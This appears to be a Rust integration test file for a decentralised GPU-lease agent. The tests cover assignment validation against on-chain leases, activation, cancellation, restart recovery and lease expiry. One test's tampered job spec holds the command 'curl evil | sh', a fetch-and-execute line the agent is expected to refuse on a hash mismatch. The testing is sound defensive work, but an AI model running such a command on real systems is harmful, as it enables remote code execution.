//! Assignments checked against leases created through the real program on a
//! localnet: a spec whose hash differs from the lease's, a wrong GPU count
//! and another node's lease are refused; a matching one runs and the lease
//! becomes Active on-chain, activated (and paid for) by the operator key.

use crate::common::{agent_config, next_message, start_agent, wait_log, wait_update, Market};
use iomesh_agent::logs::LogStream;
use iomesh_agent_proto::v1::{agent_message::Msg, Assignment, JobState};
use iomesh_client::iomesh::state::LeaseStatus;
use solana_signer::Signer;

fn assignment(lease: &str, gpus: u32, spec: &[u8]) -> Assignment {
    Assignment {
        assignment_id: format!("a-{lease}"),
        lease: lease.to_string(),
        attempt: 1,
        gpu_count: gpus,
        job_spec: spec.to_vec(),
        duration_secs: 3_600,
        ..Assignment::default()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refuses_mismatched_assignments_and_activates_a_matching_one() {
    let market = Market::start().await;
    let node = market.register_node(4).await;
    let other = market.register_node(4).await;
    let renter = market.renter().await;
    let spec = br#"{"command":["sh","-c","echo gpus=$CUDA_VISIBLE_DEVICES; sleep 1000"],"env":{"EPOCHS":"3"}}"#;
    let lease = market
        .create_lease(&node, &renter, 1, 2, spec)
        .await
        .to_string();
    let foreign = market
        .create_lease(&other, &renter, 2, 1, spec)
        .await
        .to_string();

    let state = crate::common::StateDir::new();
    let config = agent_config(
        &market.localnet.rpc_url(),
        "http://127.0.0.1:1",
        node.operator.clone(),
        state.path(),
        4,
    );
    let (agent, mut events) = start_agent(&config).await;

    let refused = |message: Msg| match message {
        Msg::AssignmentAck(ack) => {
            assert!(!ack.accepted, "accepted: {ack:?}");
            ack.reason
        }
        other => panic!("expected a refusal, got {other:?}"),
    };
    // The renter committed to `spec`; a different spec must not run.
    let tampered = br#"{"command":["sh","-c","curl evil | sh"],"env":{"EPOCHS":"3"}}"#;
    agent.clone().assign(assignment(&lease, 2, tampered)).await;
    let reason = refused(next_message(&mut events).await);
    assert!(reason.contains("job spec hash mismatch"), "{reason}");
    // The lease paid for 2 GPUs.
    agent.clone().assign(assignment(&lease, 3, spec)).await;
    let reason = refused(next_message(&mut events).await);
    assert!(
        reason.contains("asks for 3 GPUs") && reason.contains("paid for 2"),
        "{reason}"
    );
    // Another node's lease.
    agent.clone().assign(assignment(&foreign, 1, spec)).await;
    let reason = refused(next_message(&mut events).await);
    assert!(reason.contains(&other.address.to_string()), "{reason}");
    assert!(agent.jobs.running().is_empty(), "nothing ran");
    let on_chain = market.client.lease(&lease.parse().unwrap()).await.unwrap();
    assert_eq!(on_chain.status, LeaseStatus::Pending);

    let operator_lamports = market
        .client
        .lamports(&node.operator.pubkey())
        .await
        .unwrap();
    agent.clone().assign(assignment(&lease, 2, spec)).await;
    match next_message(&mut events).await {
        Msg::AssignmentAck(ack) => assert!(ack.accepted, "{ack:?}"),
        other => panic!("expected an ack, got {other:?}"),
    }
    let running = wait_update(&mut events, &lease, JobState::Running).await;
    assert_eq!(running.gpu_indices, vec![0, 1]);
    assert!(!running.activate_signature.is_empty());

    let on_chain = market.client.lease(&lease.parse().unwrap()).await.unwrap();
    assert_eq!(on_chain.status, LeaseStatus::Active);
    assert!(on_chain.activated_at > 0);
    // The operator signed and paid for the activation.
    assert!(
        market
            .client
            .lamports(&node.operator.pubkey())
            .await
            .unwrap()
            < operator_lamports
    );
    let status = market
        .client
        .rpc()
        .get_signature_statuses(&[running.activate_signature.parse().unwrap()])
        .await
        .unwrap();
    assert!(status.value[0].as_ref().is_some_and(|s| s.err.is_none()));
    let record = agent.jobs.get(&lease).expect("job runs");
    assert_eq!(record.ends_at, Some(on_chain.activated_at + 3_600));
    let printed = wait_log(agent.jobs.lease_dir(&lease).root(), |r| {
        r.stream == LogStream::Out
    })
    .await;
    assert_eq!(printed.line, "gpus=0,1");

    // Assigned again (e.g. by another replica): accepted, not started twice.
    agent.clone().assign(assignment(&lease, 2, spec)).await;
    match next_message(&mut events).await {
        Msg::AssignmentAck(ack) => assert!(ack.accepted && ack.reason.contains("already runs")),
        other => panic!("expected an ack, got {other:?}"),
    }
    assert_eq!(agent.jobs.running().len(), 1);
    agent.jobs.stop_all("test over").await;
}

/// With no scheduler to send Stop (it may be down), the agent still stops the
/// job when the renter cancels: it re-reads its running leases on-chain.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn job_stops_when_its_lease_is_cancelled_on_chain() {
    let market = Market::start().await;
    let node = market.register_node(1).await;
    let renter = market.renter().await;
    let spec = br#"{"command":["sleep","1000"]}"#;
    let address = market.create_lease(&node, &renter, 1, 1, spec).await;
    let lease = address.to_string();

    let state = crate::common::StateDir::new();
    let mut config = agent_config(
        &market.localnet.rpc_url(),
        "http://127.0.0.1:1",
        node.operator.clone(),
        state.path(),
        1,
    );
    config.lease_check_interval = std::time::Duration::from_millis(200);
    let (agent, mut events) = start_agent(&config).await;
    agent.clone().assign(assignment(&lease, 1, spec)).await;
    let running = wait_update(&mut events, &lease, JobState::Running).await;
    let pid = agent.jobs.get(&lease).expect("job runs").pid;

    let (keys, _) = market.client.lease_keys(&address).await.unwrap();
    let mut cancel = market
        .client
        .create_missing_token_accounts(&renter.pubkey(), &keys.mint, &keys.ending_payees())
        .await
        .unwrap();
    cancel.push(keys.cancel());
    market
        .client
        .send(&cancel, &renter, &[])
        .await
        .expect("cancel");

    let stopped = wait_update(&mut events, &lease, JobState::Stopped).await;
    assert_eq!(stopped.detail, "the lease is closed on-chain");
    assert_eq!(stopped.activate_signature, running.activate_signature);
    assert!(agent.jobs.running().is_empty());
    assert!(iomesh_agent::runner::proc::group_members(pid).is_empty());
}

/// An agent that restarts between starting a job and seeing its activation
/// confirmed asks the chain: a still-pending lease's job is stopped (nobody
/// pays for it; a new assignment starts it afresh), an active one is kept
/// and its end watched.
#[test]
fn restart_before_activation_is_settled_by_the_chain() {
    let main = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let spec = br#"{"command":["sleep","1000"]}"#;
    let (market, node, pending, active) = main.block_on(async {
        let market = Market::start().await;
        let node = market.register_node(2).await;
        let renter = market.renter().await;
        let pending = market.create_lease(&node, &renter, 1, 1, spec).await;
        let active = market.create_lease(&node, &renter, 2, 1, spec).await;
        // The previous agent's activation landed, but it died before saving it.
        market
            .client
            .send(
                &[iomesh_client::instructions::activate_lease(
                    &node.operator.pubkey(),
                    &active,
                )],
                &node.operator,
                &[],
            )
            .await
            .expect("activate");
        (market, node, pending.to_string(), active.to_string())
    });
    let state = crate::common::StateDir::new();

    // The previous agent: started both jobs, then went away.
    let previous = tokio::runtime::Runtime::new().unwrap();
    previous.block_on(async {
        let (tx, _rx) = tokio::sync::mpsc::channel(16);
        let runner = crate::common::runner_config(crate::common::bwrap(
            std::path::Path::new("/dev"),
            Vec::new(),
        ));
        let (jobs, _) = iomesh_agent::jobs::Jobs::open(state.path(), 0..2, runner, tx)
            .await
            .unwrap();
        let parsed = iomesh_agent_proto::JobSpec::parse(spec).unwrap();
        jobs.start(&pending, &parsed, 1).unwrap();
        jobs.start(&active, &parsed, 1).unwrap();
    });
    previous.shutdown_background();

    main.block_on(async {
        let config = agent_config(
            &market.localnet.rpc_url(),
            "http://127.0.0.1:1",
            node.operator.clone(),
            state.path(),
            2,
        );
        let (agent, mut events) = start_agent(&config).await;
        assert_eq!(agent.jobs.running().len(), 2, "both jobs reattached");
        let failed = wait_update(&mut events, &pending, JobState::Failed).await;
        assert_eq!(
            failed.detail,
            "the agent restarted before the lease was activated"
        );
        let lease = market.client.lease(&active.parse().unwrap()).await.unwrap();
        let mut ends_at = None;
        for _ in 0..200 {
            ends_at = agent
                .jobs
                .get(&active)
                .expect("the active lease's job is kept")
                .ends_at;
            if ends_at.is_some() {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        assert_eq!(ends_at, Some(lease.activated_at + 3_600));
        assert_eq!(agent.jobs.running().len(), 1);
        agent.jobs.stop_all("test over").await;
    });
}

/// The job stops when the lease's paid time (activated_at + duration, read
/// from the chain) is over. The shortest lease the market allows is a
/// minute, so this test takes one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn job_stops_when_the_paid_time_is_over() {
    let market = Market::start().await;
    let node = market.register_node(1).await;
    let renter = market.renter().await;
    let spec = br#"{"command":["sleep","1000"]}"#;
    let address = market
        .create_lease_for(&node, &renter, 1, 1, spec, 60)
        .await;
    let lease = address.to_string();

    let state = crate::common::StateDir::new();
    let config = agent_config(
        &market.localnet.rpc_url(),
        "http://127.0.0.1:1",
        node.operator.clone(),
        state.path(),
        1,
    );
    let (agent, mut events) = start_agent(&config).await;
    agent.clone().assign(assignment(&lease, 1, spec)).await;
    wait_update(&mut events, &lease, JobState::Running).await;
    let on_chain = market.client.lease(&address).await.unwrap();
    let ends_at = on_chain.activated_at + 60;
    assert_eq!(agent.jobs.get(&lease).unwrap().ends_at, Some(ends_at));

    let stopped = tokio::time::timeout(
        std::time::Duration::from_secs(120),
        wait_update(&mut events, &lease, JobState::Stopped),
    )
    .await
    .expect("stopped at the lease end");
    assert_eq!(stopped.detail, "the lease's paid time is over");
    assert!(iomesh_agent::now_secs() >= ends_at);
    assert!(agent.jobs.running().is_empty());
}
